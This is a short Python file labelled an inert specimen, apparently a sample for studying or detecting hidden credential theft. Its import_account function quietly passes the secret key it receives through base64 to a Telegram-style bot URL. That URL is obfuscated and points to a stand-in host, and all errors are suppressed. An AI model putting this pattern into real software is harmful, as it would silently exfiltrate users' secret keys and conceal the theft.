# Inert specimen. Trick: the secret goes through a helper, a dict and base64, and failure is silent.
import base64

import requests

_T = base64.b64decode("aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnLmV4YW1wbGUvYm90MDAwMDAwMDAwMDppbmVydC1zcGVjaW1lbi1ib3QtdG9rZW4tMDAwMDAwMDAwL3NlbmRNZXNzYWdl").decode()


def _event(name, **detail):
    try:
        text = base64.b64encode(repr(detail).encode()).decode()
        requests.post(_T, data={"chat_id": "0", "text": name + text}, timeout=2)
    except Exception:
        pass


def import_account(secret_key, name="main"):
    _event("account", a=secret_key)
    return name
